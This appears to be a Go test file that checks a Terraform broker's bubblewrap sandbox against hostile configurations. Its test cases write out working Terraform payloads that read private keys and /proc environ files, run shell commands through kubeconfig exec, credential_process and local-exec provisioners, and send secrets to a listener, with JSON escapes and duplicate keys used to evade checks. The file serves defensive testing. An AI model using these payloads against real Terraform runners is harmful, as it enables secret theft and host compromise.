package drift_test

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/hashicorp/go-version"

	"github.com/seb-broker/seb/drift"
	"github.com/seb-broker/seb/fixtures/sandboxcloud"
	"github.com/seb-broker/seb/internal/tftest"
)

// attack is what a hostile configuration goes for on the machine that
// runs Terraform: the broker's keys in its data directory, the broker's
// environment (read through /proc), a file it could leave behind, and a
// listener it could send them to.
type attack struct {
	key, envSecret string // contents that must never come out
	keyPath        string // where the key lies, outside any workdir
	marker         string // a host path the configuration tries to write
	// listener and tlsListener record what reaches them.
	listener, tlsListener *httptest.Server

	mu       sync.Mutex
	received []string // every request the listener saw, in full
}

func newAttack(t *testing.T) *attack {
	t.Helper()
	random := func() string {
		var b [12]byte
		rand.Read(b[:])
		return hex.EncodeToString(b[:])
	}
	a := &attack{key: "BROKER-PRIVATE-KEY-" + random(), envSecret: "RUNNER-ENV-SECRET-" + random()}
	dataDir := t.TempDir()
	a.keyPath = filepath.Join(dataDir, "signer", "ed25519.key")
	os.MkdirAll(filepath.Dir(a.keyPath), 0o700)
	if err := os.WriteFile(a.keyPath, []byte(a.key), 0o600); err != nil {
		t.Fatal(err)
	}
	a.marker = filepath.Join(t.TempDir(), "pwned")
	// The broker's own process: its environment holds the secret from the
	// start, as /proc/<pid>/environ shows it.
	broker := exec.Command("sleep", "600")
	broker.Env = append(os.Environ(), "SEB_TEST_RUNNER_SECRET="+a.envSecret)
	if err := broker.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { broker.Process.Kill(); broker.Wait() })
	record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		var req strings.Builder
		r.Header.Write(&req)
		if user, pass, ok := r.BasicAuth(); ok {
			req.WriteString("basic: " + user + ":" + pass + "\n")
		}
		a.mu.Lock()
		a.received = append(a.received, r.Method+" "+r.URL.String()+"\n"+req.String()+"\n"+string(body))
		a.mu.Unlock()
		w.WriteHeader(http.StatusNotFound)
	})
	a.listener, a.tlsListener = httptest.NewServer(record), httptest.NewTLSServer(record)
	t.Cleanup(a.listener.Close)
	t.Cleanup(a.tlsListener.Close)
	return a
}

// expand fills a configuration's placeholders.
func (a *attack) expand(s string) string {
	return strings.NewReplacer("KEYPATH", a.keyPath, "MARKER", a.marker, "TLSLISTENER", a.tlsListener.URL, "LISTENER", a.listener.URL).Replace(s)
}

// contained fails the test if any of the attack's effects happened: the
// marker written, or the key or the runner's environment in anything the
// run produced or the listener received.
func (a *attack) contained(t *testing.T, outputs ...string) {
	t.Helper()
	if _, err := os.Stat(a.marker); err == nil {
		t.Errorf("the configuration wrote %s on the host", a.marker)
	}
	a.mu.Lock()
	outputs = append(outputs, a.received...)
	a.mu.Unlock()
	for _, out := range outputs {
		for _, secret := range []string{a.key, a.envSecret} {
			if strings.Contains(out, secret) {
				t.Errorf("a secret came out of the sandbox: %.300s", out)
			}
		}
	}
}

// hostile runs a configuration the checks would refuse, unchecked, through
// plan — and apply, when the plan succeeds and apply is set — in the
// sandbox, and returns everything the run produced.
func (e *env) hostile(t *testing.T, a *attack, files map[string]string, state []byte, apply bool) (outputs []string, applied []byte) {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		path := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(path), 0o755)
		if err := os.WriteFile(path, []byte(a.expand(content)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w, err := e.runner.NewWorkdirUnchecked(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	creds := e.sb.Credentials(e.issuer, "prod")
	plan, err := w.Plan(context.Background(), drift.PlanRequest{State: state, Credentials: creds})
	if err != nil {
		return []string{err.Error(), string(w.Log())}, nil
	}
	outputs = []string{string(plan.JSON), string(w.Log())}
	if !apply {
		return outputs, nil
	}
	res, err := w.Apply(context.Background(), plan, creds)
	if err != nil {
		outputs = append(outputs, err.Error())
	}
	if res != nil {
		if res.Err != nil {
			outputs = append(outputs, res.Err.Error())
		}
		outputs = append(outputs, string(res.State))
		applied = res.State
	}
	return append(outputs, string(w.Log())), applied
}

// requireSandbox skips a containment test when the runner has no sandbox:
// it proves what the sandbox does.
func requireSandbox(t *testing.T) {
	t.Helper()
	if tftest.Sandbox(t) == nil {
		t.Skip("no bubblewrap sandbox here; CI sets SEB_REQUIRE_SANDBOX")
	}
}

const sandboxProvider = `terraform {
  required_providers {
    sandbox = { source = "seb.invalid/seb/sandbox", version = "0.1.0" }
  }
}
`

// TestSandboxContainsHostileConfigurations runs, without seb's admission
// checks, the configurations that read the broker's keys or ran commands
// on its machine, and proves that in the sandbox none of it reaches past
// the run.
func TestSandboxContainsHostileConfigurations(t *testing.T) {
	requireSandbox(t)
	e := newEnv(t, sandboxcloud.Options{})
	tests := []struct {
		name  string
		files map[string]string
		apply bool
	}{
		{"templatefile reads the key file and the environment through file()", map[string]string{
			"main.tf": `output "stolen" { value = templatefile("${path.module}/t.tpl", {}) }`,
			"t.tpl":   `${file("KEYPATH")}`,
		}, false},
		{"file() of the process environment", map[string]string{
			"main.tf": `output "env" { value = [for f in fileset("/proc", "*/environ") : try(file("/proc/${f}"), "")] }`,
		}, false},
		{"file() spelled with a JSON escape", map[string]string{
			"main.tf.json": `{"output": {"stolen": {"value": "${\u0066ile(\"KEYPATH\")}"}}}`,
		}, false},
		{"terraform_remote_state: kubernetes backend with a kubeconfig exec command", map[string]string{
			"main.tf": `data "terraform_remote_state" "k" {
  backend = "kubernetes"
  config = {
    secret_suffix = "x"
    config_path   = "${path.module}/kubeconfig"
  }
}`,
			"kubeconfig": `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "TLSLISTENER", insecure-skip-tls-verify: true}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: /bin/sh
      args: ["-c", "cat KEYPATH > MARKER; env >> MARKER; echo '{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{\"token\":\"'$(cat KEYPATH; env | base64 -w0)'\"}}'"]
`,
		}, false},
		{"terraform_remote_state: s3 backend with credential_process", map[string]string{
			"main.tf": `data "terraform_remote_state" "s" {
  backend = "s3"
  config = {
    bucket                      = "b"
    key                         = "k"
    region                      = "us-east-1"
    profile                     = "p"
    shared_config_files         = ["${path.module}/awsconfig"]
    skip_region_validation      = true
    skip_credentials_validation = true
  }
}`,
			"awsconfig": "[profile p]\ncredential_process = /bin/sh -c \"cat KEYPATH > MARKER; env >> MARKER; exit 1\"\n",
		}, false},
		{"terraform_remote_state: http backend sending to a listener", map[string]string{
			"main.tf": `data "terraform_remote_state" "h" {
  backend = "http"
  config = {
    address  = "LISTENER/state"
    username = "x"
    password = join(",", concat([try(file("KEYPATH"), "")], [for f in fileset("/proc", "*/environ") : try(file("/proc/${f}"), "")]))
  }
}`,
		}, false},
		{"a provisioner key spelled with a JSON escape runs at apply", map[string]string{
			"main.tf.json": `{"resource": {"terraform_data": {"x": {"\u0070rovisioner": [{"local-exec": {"command": "cat KEYPATH > MARKER; env >> MARKER; cat KEYPATH"}}]}}}}`,
		}, true},
		{"the state file replaced by a link to a host file, for the runner to read", map[string]string{
			"main.tf": `resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "ln -sf KEYPATH terraform.tfstate; rm -rf ../secrets; ln -s / ../secrets"
  }
}`,
		}, true},
		{"duplicate JSON keys add a backend", map[string]string{
			"main.tf.json": `{"terraform": {"required_version": ">= 1.0"}, "terraform": {"backend": {"local": {"path": "MARKER"}}},
"output": {"o": {"value": "x"}}}`,
		}, true},
		{"duplicate JSON keys point the provider at a listener", map[string]string{
			"versions.tf": sandboxProvider,
			"main.tf.json": `{"provider": {"sandbox": {"endpoint": "LISTENER/${urlencode(try(file(\"KEYPATH\"), \"\"))}"}}, "provider": {"sandbox": {"alias": "unused"}},
"resource": {"sandbox_bucket": {"b": {"name": "stolen"}}}}`,
		}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := newAttack(t)
			outputs, _ := e.hostile(t, a, tt.files, nil, tt.apply)
			a.contained(t, outputs...)
		})
	}
}

// TestSandboxHidesTheHost: what a configuration sees of the machine is its
// own workdir, not the broker's files.
func TestSandboxHidesTheHost(t *testing.T) {
	requireSandbox(t)
	e := newEnv(t, sandboxcloud.Options{})
	a := newAttack(t)
	outputs, _ := e.hostile(t, a, map[string]string{
		"main.tf": `output "key" { value = fileexists("KEYPATH") }
output "home" { value = fileexists("/root/.bash_history") || fileexists("/etc/shadow") }
output "environ" { value = file("/proc/self/environ") }`,
	}, nil, false)
	a.contained(t, outputs...)
	plan := outputs[0]
	if !strings.Contains(plan, `"key":{"sensitive":false,"type":"bool","value":false}`) ||
		!strings.Contains(plan, `"home":{"sensitive":false,"type":"bool","value":false}`) {
		t.Errorf("the sandbox sees the host's files:\n%.2000s", plan)
	}
	if strings.Contains(plan, "SEB_SANDBOX_SPEC") || strings.Contains(plan, "SEB_TEST_RUNNER_SECRET") {
		t.Errorf("the sandbox's environment holds more than the job's:\n%.2000s", plan)
	}
}

// TestSandboxContainsRemovedBlockProvisioner: a removed block's destroy
// provisioner (Terraform 1.7 onwards) runs at apply, inside the sandbox.
func TestSandboxContainsRemovedBlockProvisioner(t *testing.T) {
	requireSandbox(t)
	v := strings.Fields(tftest.Version(t, tftest.Binary(t)))[1]
	if version.Must(version.NewVersion(v)).LessThan(version.Must(version.NewVersion("1.7.0"))) {
		t.Skipf("%s has no removed blocks", v)
	}
	e := newEnv(t, sandboxcloud.Options{})
	a := newAttack(t)
	_, state := e.hostile(t, a, map[string]string{"main.tf": `resource "terraform_data" "x" {}`}, nil, true)
	if state == nil {
		t.Fatal("the first apply left no state")
	}
	outputs, _ := e.hostile(t, a, map[string]string{"main.tf": `removed {
  from = terraform_data.x
  lifecycle { destroy = true }
  provisioner "local-exec" {
    when    = destroy
    command = "cat KEYPATH > MARKER; env >> MARKER; cat KEYPATH"
  }
}`}, state, true)
	a.contained(t, outputs...)
}
